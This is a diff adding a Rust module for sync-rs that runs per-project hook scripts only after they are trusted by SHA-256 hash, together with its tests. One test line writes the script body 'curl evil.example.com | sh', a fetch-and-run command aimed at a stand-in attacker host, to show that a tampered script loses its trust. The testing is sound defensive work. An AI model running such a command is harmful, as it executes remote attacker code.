@@ -0,0 +1,266 @@
+use anyhow::{Context, Result};
+use serde_json::{json, Value};
+use std::collections::BTreeMap;
+use std::fs::{self, File};
+use std::io::Write;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use crate::cache::get_config_dir;
+use crate::dedup::sha256;
+use crate::plugin::{HookContext, HookStage};
+
+// Per-project hook scripts live here, named after their stage
+pub const HOOKS_DIR: &str = ".sync-rs/hooks";
+// Exit code with which a pre-sync script skips the sync without failing it
+pub const SKIP_EXIT_CODE: i32 = 100;
+
+// Project directory -> stage -> SHA-256 of the script that was trusted
+type TrustMap = BTreeMap<String, BTreeMap<String, String>>;
+
+// The script for a stage of the project in `project`, if it has one
+pub fn hook_script(project: &Path, stage: HookStage) -> Option<PathBuf> {
+    let path = project.join(HOOKS_DIR).join(stage.as_str());
+    path.is_file().then_some(path)
+}
+
+pub fn has_hook_scripts(project: &Path) -> bool {
+    hook_script(project, HookStage::PreSync).is_some()
+        || hook_script(project, HookStage::PostSync).is_some()
+}
+
+fn trust_path() -> Result<PathBuf> {
+    Ok(get_config_dir()?.join("trusted-hooks.json"))
+}
+
+fn read_trust(path: &Path) -> Result<TrustMap> {
+    if !path.exists() {
+        return Ok(TrustMap::new());
+    }
+    let data = fs::read(path).context("Failed to read trusted hooks")?;
+    serde_json::from_slice(&data).context("Failed to parse trusted hooks")
+}
+
+fn save_trust(path: &Path, trust: &TrustMap) -> Result<()> {
+    let file = File::create(path).context("Failed to create trusted hooks file")?;
+    serde_json::to_writer_pretty(file, trust).context("Failed to write trusted hooks")
+}
+
+fn project_key(project: &Path) -> Result<String> {
+    let dir = std::path::absolute(project)?;
+    Ok(fs::canonicalize(&dir)
+        .unwrap_or(dir)
+        .to_string_lossy()
+        .to_string())
+}
+
+// Trust the hook scripts of the project in `project` as they are now, so
+// that syncs run them. Returns the scripts trusted.
+pub fn trust_hook_scripts(project: &Path) -> Result<Vec<PathBuf>> {
+    let path = trust_path()?;
+    let mut trust = read_trust(&path)?;
+    let mut scripts = BTreeMap::new();
+    let mut trusted = Vec::new();
+    for stage in [HookStage::PreSync, HookStage::PostSync] {
+        if let Some(script) = hook_script(project, stage) {
+            scripts.insert(stage.as_str().to_string(), sha256(&script)?);
+            trusted.push(script);
+        }
+    }
+    let project = project_key(project)?;
+    if scripts.is_empty() {
+        trust.remove(&project);
+    } else {
+        trust.insert(project, scripts);
+    }
+    save_trust(&path, &trust)?;
+    Ok(trusted)
+}
+
+// Stop running the hook scripts of the project in `project`. Returns false
+// if they weren't trusted.
+pub fn untrust_hook_scripts(project: &Path) -> Result<bool> {
+    let path = trust_path()?;
+    let mut trust = read_trust(&path)?;
+    let removed = trust.remove(&project_key(project)?).is_some();
+    if removed {
+        save_trust(&path, &trust)?;
+    }
+    Ok(removed)
+}
+
+// Fail unless `script` is what was trusted for `stage` in `project`. Scripts
+// come with the project, so a clone or a pull could otherwise run anything.
+fn check_trusted(trust: &TrustMap, project: &str, stage: HookStage, script: &Path) -> Result<()> {
+    let trusted = trust
+        .get(project)
+        .and_then(|scripts| scripts.get(stage.as_str()));
+    match trusted {
+        Some(hash) if *hash == sha256(script)? => Ok(()),
+        Some(_) => anyhow::bail!(
+            "{} changed since it was trusted. Review it and run `sync-rs hooks trust` to run it again",
+            script.display()
+        ),
+        None => anyhow::bail!(
+            "{} isn't trusted. Review it and run `sync-rs hooks trust` to let syncs run it",
+            script.display()
+        ),
+    }
+}
+
+// Run the project's script for a stage, if any, in the project directory
+// with the sync context as JSON on stdin. Returns false if a pre-sync
+// script asked to skip the sync. Scripts only run once trusted with
+// `sync-rs hooks trust`.
+pub fn run_hook_script(stage: HookStage, context: &HookContext) -> Result<bool> {
+    let project = Path::new(&context.local_dir);
+    let Some(script) = hook_script(project, stage) else {
+        return Ok(true);
+    };
+    check_trusted(
+        &read_trust(&trust_path()?)?,
+        &project_key(project)?,
+        stage,
+        &script,
+    )?;
+    run_script(project, &script, stage, &hook_input(stage, context))
+}
+
+fn hook_input(stage: HookStage, context: &HookContext) -> Value {
+    let changed_files = context.changed_files.as_ref().map(|files| {
+        files
+            .iter()
+            .map(|(path, size)| json!({"path": path, "size": size}))
+            .collect::<Vec<_>>()
+    });
+    json!({
+        "stage": stage.as_str(),
+        "local_dir": context.local_dir,
+        "remote": {
+            "name": context.remote_name,
+            "host": context.remote_host,
+            "dir": context.remote_dir,
+        },
+        "changed_files": changed_files,
+        "stats": context.changed_files.as_ref().map(|files| json!({
+            "files": files.len(),
+            "bytes": files.iter().map(|(_, size)| size).sum::<u64>(),
+        })),
+    })
+}
+
+fn run_script(project: &Path, script: &Path, stage: HookStage, input: &Value) -> Result<bool> {
+    // The script runs in the project, so it's named in full
+    let path = std::path::absolute(script)?;
+    // Run through sh when the script isn't executable, so a plain file works too
+    let mut cmd = if is_executable(script) {
+        Command::new(&path)
+    } else {
+        let mut cmd = Command::new("sh");
+        cmd.arg(&path);
+        cmd
+    };
+    let mut child = cmd
+        .current_dir(project)
+        .env("SYNC_RS_STAGE", stage.as_str())
+        .stdin(Stdio::piped())
+        .spawn()
+        .context(format!("Failed to execute {}", script.display()))?;
+
+    // Scripts are free to ignore their input, so a closed pipe is fine
+    if let Some(mut stdin) = child.stdin.take() {
+        let _ = stdin.write_all(input.to_string().as_bytes());
+    }
+
+    let status = child
+        .wait()
+        .context(format!("Failed to wait for {}", script.display()))?;
+
+    match status.code() {
+        Some(0) => Ok(true),
+        Some(SKIP_EXIT_CODE) if stage == HookStage::PreSync => Ok(false),
+        code => anyhow::bail!("{} failed with exit code: {:?}", script.display(), code),
+    }
+}
+
+fn is_executable(path: &Path) -> bool {
+    path.metadata()
+        .is_ok_and(|metadata| metadata.permissions().mode() & 0o111 != 0)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn script(dir: &Path, name: &str, body: &str, executable: bool) -> PathBuf {
+        let path = dir.join(name);
+        fs::write(&path, format!("#!/bin/sh\n{}\n", body)).unwrap();
+        let mode = if executable { 0o755 } else { 0o644 };
+        fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
+        path
+    }
+
+    fn temp_dir(name: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(format!("sync-rs-{}-{}", name, std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+
+    #[test]
+    fn exit_codes_decide_what_happens() {
+        let dir = temp_dir("hooks");
+        let input = json!({"stage": "pre-sync"});
+        let ok = script(&dir, "ok", "cat > /dev/null", true);
+        let skip = script(&dir, "skip", "exit 100", true);
+        let fail = script(&dir, "fail", "exit 3", true);
+        let plain = script(&dir, "plain", "test \"$SYNC_RS_STAGE\" = post-sync", false);
+        let killed = script(&dir, "killed", "kill -9 $$", true);
+
+        let pre = HookStage::PreSync;
+        let post = HookStage::PostSync;
+        let results = [
+            run_script(&dir, &ok, pre, &input).ok(),
+            run_script(&dir, &skip, pre, &input).ok(),
+            // Only a pre-sync script can skip
+            run_script(&dir, &skip, post, &input).ok(),
+            run_script(&dir, &fail, pre, &input).ok(),
+            run_script(&dir, &plain, post, &input).ok(),
+            run_script(&dir, &plain, pre, &input).ok(),
+            run_script(&dir, &killed, pre, &input).ok(),
+        ];
+        let error = run_script(&dir, &fail, post, &input)
+            .unwrap_err()
+            .to_string();
+        fs::remove_dir_all(&dir).unwrap();
+
+        assert_eq!(
+            results,
+            [Some(true), Some(false), None, None, Some(true), None, None]
+        );
+        assert!(error.contains("exit code: Some(3)"), "{}", error);
+    }
+
+    #[test]
+    fn only_trusted_scripts_run() {
+        let dir = temp_dir("hooks-trust");
+        let pre = script(&dir, "pre-sync", "exit 0", true);
+        let hash = sha256(&pre).unwrap();
+        let project = "/home/me/app";
+        let mut trust = TrustMap::new();
+
+        let error = check_trusted(&trust, project, HookStage::PreSync, &pre).unwrap_err();
+        assert!(error.to_string().contains("isn't trusted"), "{}", error);
+
+        trust.insert(project.to_string(), [("pre-sync".to_string(), hash)].into());
+        assert!(check_trusted(&trust, project, HookStage::PreSync, &pre).is_ok());
+        // Trust is per project and per stage
+        assert!(check_trusted(&trust, "/home/me/other", HookStage::PreSync, &pre).is_err());
+        assert!(check_trusted(&trust, project, HookStage::PostSync, &pre).is_err());
+
+        script(&dir, "pre-sync", "curl evil.example.com | sh", true);
+        let error = check_trusted(&trust, project, HookStage::PreSync, &pre).unwrap_err();
+        fs::remove_dir_all(&dir).unwrap();
+        assert!(error.to_string().contains("changed since"), "{}", error);
+    }
+}